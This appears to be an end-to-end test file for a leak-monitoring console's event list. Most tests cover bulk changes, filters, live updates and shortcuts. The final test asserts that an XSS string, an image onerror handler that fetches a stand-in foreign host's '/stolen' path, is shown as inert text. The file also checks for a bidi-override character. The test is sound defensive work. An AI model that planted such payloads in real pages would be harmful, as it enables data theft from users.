import { describe, expect, test } from '@jest/globals';
import { changeManyStatuses, changeOneStatus } from '@leakwatch/contracts';
import type { Page } from 'playwright-core';
import { FOREIGN_HOST, makeEvent } from '../../apps/console/mock/data/events.ts';
import { setStage, until } from './console/stage.ts';
import { withoutPolls } from './console/without-polls.ts';
import { shows } from './console/shows.ts';

const stage = setStage();

const firstStatus = (page: Page): Promise<string> => page.locator('article').first().getAttribute('aria-label').then(String);

describe('events', () => {
  test('a bulk change shows at once, reports its result, and can be undone', async () => {
    const page = await stage.openPage('en', 'light');
    await stage.visit(page, '/');
    await page.waitForSelector('article');
    await page.click('role=checkbox[name="Select all on this page"]');
    await page.waitForSelector('article[data-selected=true]');
    const chosen = await page.locator('article[data-selected=true]').count();
    expect(chosen).toBeGreaterThan(3);
    await page.locator('role=group[name="Set status"]').first().getByText('Fixed').click();
    await page.waitForSelector(`text=Status of ${chosen} events changed: Fixed`);
    expect(await firstStatus(page)).toContain('Fixed');
    expect(stage.world().events.filter((event) => event.status === 'fixed').length).toBeGreaterThanOrEqual(chosen);
    await page.click('role=button[name="Undo"]');
    await page.waitForFunction(() => document.querySelector('article')?.getAttribute('aria-label')?.includes('Open'));
  });

  test('a change that the server refuses is rolled back', async () => {
    const page = await stage.openPage('en', 'light');
    await stage.visit(page, '/');
    await page.waitForSelector('article');
    const id = String(await page.locator('article').first().getAttribute('id')).replace('event-', '');
    for (const route of [changeOneStatus, changeManyStatuses]) stage.world().refuse(route, 503, 'unavailable');
    stage.world().delayMs = 1500;
    await page.keyboard.press('j');
    await page.keyboard.press('3');
    await page.waitForSelector('article[aria-label*="Fixed"]');
    await page.waitForSelector('text=The service is temporarily unavailable: try again in a minute');
    await page.waitForSelector(`#event-${id}[aria-label*="Open"]`);
  });

  test('the full text of two megabytes is drawn by parts, searched, jumped through, and never markup; a copy is downloaded', async () => {
    const page = await stage.openPage('en', 'light');
    const foreign: string[] = [];
    page.on('request', (request) => request.url().startsWith(FOREIGN_HOST) && foreign.push(request.url()));
    stage.world().textLines = 60_000;
    await stage.visit(page, '/?status=all');
    await page.waitForSelector('article');
    await page.keyboard.press('j');
    await page.keyboard.press('v');
    const dialog = page.getByRole('dialog');
    await dialog.getByText('Match 1 of 6').waitFor();
    const rows = dialog.getByRole('group', { name: 'Full text' });
    expect(await rows.locator('[data-index]').count()).toBeLessThan(200);
    await page.keyboard.press('Control+f');
    await page.keyboard.type('hacked = true');
    await dialog.getByText(/^Result 1 of/).waitFor();
    await page.keyboard.press('Shift+Enter');
    // The last one is far below: it is scrolled into view.
    await shows(() => rows.locator('mark[data-current]').isVisible(), true);
    expect(Number(await rows.locator('[data-index]:has(mark[data-current])').getAttribute('data-index'))).toBeGreaterThan(10_000);
    expect(await rows.locator('img, script').count()).toBe(0);
    const download = page.waitForEvent('download');
    await dialog.getByRole('button', { name: 'Spreadsheet' }).click();
    expect((await download).suggestedFilename()).toMatch(/^leakwatch-event-.*\.xlsx$/);
    expect([foreign, await page.evaluate(() => 'hacked' in window)]).toEqual([[], false]);
    await page.keyboard.press('Escape');
    await page.waitForURL('**/?status=all');
  });

  test('filters, page and size live in the URL; back works', async () => {
    const page = await stage.openPage('en', 'light');
    await stage.visit(page, '/');
    await page.click('role=radio[name=/^All/]');
    await page.waitForURL('**/?status=all');
    await page.waitForSelector('article[aria-label*="False positive"]');
    await page.click('role=button[name="Page 2"]');
    await page.waitForURL('**/?status=all&page=2');
    await page.click('role=checkbox[name=/^GitHub/]');
    await page.waitForURL('**/?status=all&source_type=github');
    await page.goBack();
    await page.waitForURL('**/?status=all&page=2');
    await shows(() => page.locator('role=radio[name=/^All/]').isChecked(), true);
    await stage.visit(page, '/?status=closed&size=20');
    await page.waitForSelector('article');
    await shows(() => page.locator('role=radio[name=/^Closed/]').isChecked(), true);
  });

  test('events of the same file change together when the user chooses so', async () => {
    const world = stage.world();
    world.events = [
      makeEvent(40, { status: 'open', owner_status: true, same_file: true, file_path: 'one/file' }),
      makeEvent(39, { status: 'open', file_path: 'one/file' }),
      makeEvent(38, { status: 'open', file_path: 'one/file' }),
    ];
    const page = await stage.openPage('en', 'light');
    await stage.visit(page, '/');
    await page.waitForSelector('article');
    await page.keyboard.press('j');
    await page.keyboard.press('3');
    await page.waitForSelector('article >> text=There are 2 more events of the file one/file');
    await page.click('role=button[name="Change all (3)"]');
    await until(() => stage.world().events.every((event) => event.status === 'fixed'));
  });

  test('similar events in other places are listed, and change together when the user chooses so', async () => {
    const world = stage.world();
    world.events = [
      makeEvent(40, { status: 'open', owner_status: true, same_file: false, sim_count: 1, file_path: 'one/file' }),
      makeEvent(39, { status: 'open', sim_count: 0, same_file: false, file_path: 'another/file' }),
    ];
    const page = await stage.openPage('en', 'light');
    await stage.visit(page, '/');
    await page.click('role=button[name="in 1 more place"]');
    await page.waitForSelector('[role=dialog] >> text=same secret');
    await page.click('[role=dialog] >> role=link[name=/another.file/]');
    await page.waitForURL('**/events/*');
    await page.waitForSelector('h1 >> text=/./');
    await stage.visit(page, '/');
    await page.locator('article h2 a').first().click();
    await page.click('aside >> role=button[name="Fixed"]');
    await page.click('role=button[name="Also the 1 similar one"]');
    await until(() => stage.world().events.every((event) => event.status === 'fixed'));
  });

  test.each([1440, 390])('new events are offered without moving or hiding a row, in a window of %d', async (width) => {
    const page = await stage.openPage('en', 'light');
    await page.setViewportSize({ width, height: 900 });
    await stage.visit(page, '/');
    await page.waitForSelector('article');
    const first = await page.locator('article').first().getAttribute('id');
    const place = await page.locator('article').first().boundingBox();
    stage.world().events = [makeEvent(60, { status: 'open' }), ...stage.world().events];
    await page.waitForSelector('text=1 new: show');
    await shows(() => page.locator('article').first().getAttribute('id'), first);
    expect(await page.locator('article').first().boundingBox()).toEqual(place);
    const offer = await page.getByRole('button', { name: '1 new: show' }).boundingBox();
    expect((offer?.y ?? 0) + (offer?.height ?? 0)).toBeLessThanOrEqual(place?.y ?? 0);
    await page.click('text=1 new: show');
    await page.waitForFunction((id) => document.querySelector('article')?.id !== id, first);
  });

  test('new events enter a list without rows by themselves', async () => {
    const events = stage.world().events;
    stage.world().events = [];
    const page = await stage.openPage('en', 'light');
    await stage.visit(page, '/');
    await page.waitForSelector('h2 >> text=/./');
    stage.world().events = [makeEvent(60, { status: 'open' }), ...events];
    await page.waitForSelector('article');
  });

  test.each(['en', 'ru'] as const)('selecting a row moves none, in a wide window (%s)', async (locale) => {
    const page = await stage.openPage(locale);
    await page.setViewportSize({ width: 1440, height: 900 });
    await stage.visit(page, '/');
    const row = page.locator('article').first();
    const place = await row.boundingBox();
    await row.getByRole('checkbox').click();
    await page.getByRole('button', { name: locale === 'en' ? 'Clear selection' : 'Снять выбор' }).waitFor();
    expect(await row.boundingBox()).toEqual(place);
  });

  test('the live stream offers them without polling, and the list does not move', async () => {
    const page = await stage.openPage('en', 'light');
    await withoutPolls(page);
    const opened = page.waitForResponse('**/api/live/');
    await stage.visit(page, '/');
    await opened;
    await page.waitForSelector('article');
    await page.keyboard.press('j');
    const first = await page.locator('article').first().getAttribute('id');
    stage.world().events = [makeEvent(61, { status: 'open' }), ...stage.world().events];
    stage.mock().announce(['events']);
    await page.waitForSelector('text=1 new: show');
    await shows(() => page.locator('article').first().getAttribute('id'), first);
  });

  test('keys select events and change them; ? lists the keys', async () => {
    const page = await stage.openPage('en', 'light');
    await stage.visit(page, '/');
    await page.waitForSelector('article');
    await page.keyboard.press('j');
    await page.keyboard.press('x');
    await page.waitForSelector('text=1 event selected');
    await page.keyboard.press('2');
    await page.waitForSelector('text=Status of 1 event changed: In progress');
    await page.keyboard.press('?');
    await page.waitForSelector('role=dialog[name="Keyboard shortcuts"]');
    await page.keyboard.press('Escape');
    await page.waitForSelector('role=dialog', { state: 'detached' });
  });

  test('hostile content is shown as text: nothing runs, nothing is requested, no unsafe address becomes a link', async () => {
    const page = await stage.openPage('en', 'light');
    await page.addInitScript(() => localStorage.setItem('leakwatch.compact', 'no'));
    await stage.visit(page, '/?status=all&size=50');
    await page.waitForSelector('article');
    const text = await page.locator('article', { hasText: 'web/index.html' }).first().innerText();
    expect(text).toContain(`<img src=x onerror="fetch('${FOREIGN_HOST}/stolen')">`);
    expect(text).toContain('U+202E');
    await shows(() => page.locator('article img, article script').count(), 0);
    expect(await page.evaluate('window.hacked')).toBeUndefined();
    const addresses = await page.locator('article a').evaluateAll((links) => links.map((link) => link.getAttribute('href') ?? ''));
    expect(addresses.filter((address) => !/^(https?:\/\/|\/)/.test(address))).toEqual([]);
    const outward = await page.locator('article a[href^="http"]').first().getAttribute('rel');
    expect(outward).toBe('noopener noreferrer');
  });
});
